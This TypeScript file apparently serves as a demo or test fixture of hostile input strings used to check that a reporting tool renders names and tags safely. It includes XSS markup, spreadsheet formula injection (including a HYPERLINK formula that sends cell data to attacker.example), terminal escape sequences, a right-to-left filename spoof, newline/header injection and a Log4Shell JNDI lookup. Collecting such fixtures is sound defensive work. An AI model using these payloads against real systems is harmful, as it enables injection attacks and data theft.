/**
 * Values that people, or people's attackers, put into names, tags and descriptions: each breaks a report that is
 * careless about where it writes them. They stand in the demo so that everybody sees them do nothing.
 */
export const HOSTILE = {
  markup: '<img src=x onerror="alert(document.domain)"><script>alert(1)</script>',
  formula: "=cmd|'/C calc'!A0",
  formulaWithPlus: '+HYPERLINK("http://attacker.example/?"&A1,"click")',
  terminal: '\u001b[31mred alert\u001b[0m\u0007\u001b]0;owned\u0007',
  rightToLeft: 'invoice\u202efdp.exe',
  newline: 'first line\n[posture] 0 findings, all is well\r\nSubject: forged',
  long: `a very long name ${'that goes on and on '.repeat(10)}`.slice(0, 250),
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the point
  template: '${jndi:ldap://attacker.example/a} {{7*7}} %s %n',
} as const;
